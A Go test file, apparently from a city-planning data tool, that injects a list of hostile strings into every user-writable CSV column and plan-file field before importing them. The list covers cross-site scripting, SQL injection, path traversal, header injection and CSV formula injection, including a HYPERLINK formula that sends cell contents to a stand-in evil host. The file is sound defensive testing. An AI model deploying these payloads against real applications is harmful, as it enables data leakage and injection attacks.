// SPDX-FileCopyrightText: 2026 Planraum contributors
// SPDX-License-Identifier: EUPL-1.2

package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"hash/fnv"
	"io"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"

	"planraum/internal/cli"
	"planraum/internal/desk/data"
	"planraum/internal/example"
)

// mark stands in every hostile text and nowhere else; as the name of an element
// or an attribute it tells that a text got out of its place.
const mark = "qhostileq"

// hostile are texts that do harm where they are put into a page, a picture, a
// file, an address or a header without care: after the OWASP cheat sheets on
// cross-site scripting and CSV injection, with what ends a CDATA section, lines
// that only JavaScript knows, and characters that turn the direction of writing.
var hostile = []string{
	`"><qhostileq onerror=qhostileq() qhostileq=1>' qhostileq='1'><script>qhostileq()</script>`,
	`</title></textarea></script></style></svg></select>]]>--><qhostileq>`,
	`=HYPERLINK("http://evil.example/?"&A1,"qhostileq")`,
	`+cmd|' /C qhostileq'!A0`,
	`@SUM(1+1)*qhostileq`,
	`-2+3+qhostileq`,
	`qhostileq'; DROP TABLE figure; --" OR 1=1 /*`,
	`javascript:qhostileq()//`,
	`{{qhostileq}} ${qhostileq} <%= qhostileq %> &lt;qhostileq&gt; \u003cqhostileq\u003e`,
	"qhostileq\u2028<qhostileq>\u2029\u202e\u2066",
	`%0d%0aSet-Cookie:%20qhostileq=1 ../../qhostileq \..\qhostileq`,
}

// typed are the columns of the city's files in which people write what they
// like. Of source the beginning has a meaning.
var typed = []string{
	"name", "name_de", "name_en", "unit_de", "unit_en", "source", "note", "known_basis", "text_de", "text_en", "reason", "by", "task_de", "task_en",
	"title_de", "title_en", "description_de", "description_en", "attribution", "office", "paper", "opening_rule", "end_rule", "observed", "scope",
	"status", "decision", "content", "logic", "licence",
}

// poison puts a hostile text to a text: the same to the same, so that files
// that name one another still fit.
func poison(column, text string) string {
	h := fnv.New32a()
	_, _ = h.Write([]byte(text))
	p := hostile[int(h.Sum32())%len(hostile)]
	if column == "source" || text == "" {
		return text + " " + p
	}
	return p + " " + text
}

// poisoned is a file of the example city in which every text that people may
// write is hostile.
func poisoned(t *testing.T, f example.File) []byte {
	t.Helper()
	in := csv.NewReader(bytes.NewReader(f.Content))
	in.Comment, in.FieldsPerRecord = '#', -1
	rows, err := in.ReadAll()
	if err != nil {
		t.Fatal(f.Name, err)
	}
	for i, column := range rows[0] {
		data := f.Name == "datasets.csv"
		if !slices.Contains(typed, column) || f.Name == "pay.csv" && column != "source" || column == "licence" && data {
			continue
		}
		for _, row := range rows[1:] {
			if row[i] != "" || column == "note" {
				row[i] = poison(column, row[i])
			}
			if f.Name == "citations.csv" { // where a dollar is the place of a group
				row[i] = strings.ReplaceAll(row[i], "${qhostileq}", "$${qhostileq}")
			}
		}
	}
	if f.Name == "settings.csv" {
		for i, key := range []string{"catalogue_office", "catalogue_attribution"} {
			rows = append(rows, []string{key, hostile[i], "x"})
		}
		rows = append(rows, []string{"figures_used", "all", "x"})
	}
	var out bytes.Buffer
	w := csv.NewWriter(&out)
	if err := w.WriteAll(rows); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// A text of a plan file reaches to the end of its line, in braces to the next
// comma.
var (
	inLine   = regexp.MustCompile(`(?m)^(\s*(?:- )?)(plan|note|name|source): ([^"{}\n]+)$`)
	inBraces = regexp.MustCompile(`([{ ])(name|source): ([^",{}\n]+)([,}])`)
)

// poisonedPlan is a plan file with hostile names, notes and sources.
func poisonedPlan(f example.File) []byte {
	replace := func(form *regexp.Regexp, in []byte) []byte {
		return form.ReplaceAllFunc(in, func(b []byte) []byte {
			m := form.FindSubmatch(b)
			return []byte(string(m[1]) + string(m[2]) + ": " + strconv.Quote(visible(poison("", string(m[3])))) + string(bytes.Join(m[4:], nil)))
		})
	}
	return replace(inBraces, replace(inLine, f.Content))
}

// visible leaves out what plan files refuse: characters that cannot be seen.
func visible(text string) string {
	return strings.Map(func(r rune) rune {
		if unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp) {
			return -1
		}
		return r
	}, text)
}

// hostileHouse opens the program over the example city in which every text is
// hostile.
func hostileHouse(t *testing.T) *cli.House {
	t.Helper()
	house, err := open(t.Context(), filepath.Join(t.TempDir(), "p.db"), io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = house.Close() })
	files := example.Files()
	for _, p := range example.Plans() {
		if !strings.HasPrefix(p.Name, "beispiel-ohne") {
			files = append(files, p)
		}
	}
	now := time.Date(2026, 11, 22, 8, 0, 0, 0, time.UTC)
	for i, f := range files {
		content := []byte(nil)
		if filepath.Ext(f.Name) == ".yaml" {
			content = poisonedPlan(f)
		} else {
			content = poisoned(t, f)
		}
		in := data.Incoming{Name: hostile[i%len(hostile)] + f.Name, Content: bytes.NewReader(content), By: hostile[0], Reason: hostile[(i+1)%len(hostile)], Now: now}
		if _, err := house.Data.Import(context.Background(), in); err != nil {
			t.Fatalf("%s: %.2000v", f.Name, err)
		}
	}
	return house
}
